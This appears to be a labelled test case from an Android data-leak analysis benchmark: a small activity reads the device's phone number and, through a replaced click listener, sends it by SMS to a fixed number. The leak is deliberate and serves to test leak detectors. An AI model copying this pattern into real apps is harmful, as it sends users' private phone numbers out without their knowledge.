// about       A button has one click listener: the later one, which sends, takes the place of the first.
// leak        PHONE_NUMBER sms
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.view.View;
import android.widget.Button;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    final String number = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getLine1Number();
    Button button = new Button(this);
    View.OnClickListener sender = new View.OnClickListener() {
      @Override
      public void onClick(View view) {
        SmsManager.getDefault().sendTextMessage("5550100", null, number, null, null);
      }
    };
    View.OnClickListener greeter = new View.OnClickListener() {
      @Override
      public void onClick(View view) {
        SmsManager.getDefault().sendTextMessage("5550100", null, "hello", null, null);
      }
    };
    // The last one wins.
    button.setOnClickListener(greeter);
    button.setOnClickListener(sender);
    setContentView(button);
  }
}
